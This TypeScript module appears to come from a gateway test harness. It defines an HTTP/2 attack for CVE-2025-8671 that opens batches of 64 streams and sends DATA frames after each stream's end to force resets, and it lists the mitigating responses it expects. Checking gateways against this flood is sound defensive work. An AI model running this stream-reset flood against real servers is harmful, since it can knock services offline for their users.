// Requests that the gateway has to reset: DATA behind the end of each.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, head, request, SMALL_PATH } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2025-8671',
  does: 'makes the gateway reset its streams, by DATA behind their end',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM STREAM_CLOSED', 'GOAWAY STREAM_CLOSED'],
  must: ['GOAWAY ENHANCE_YOUR_CALM', 'closed', '429'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const get = request(head(target, 'GET', SMALL_PATH))
      return { next: () => connection.batch(64, (stream) => Buffer.concat([get(stream), h2.data(stream, 'x')])) }
    }),
}
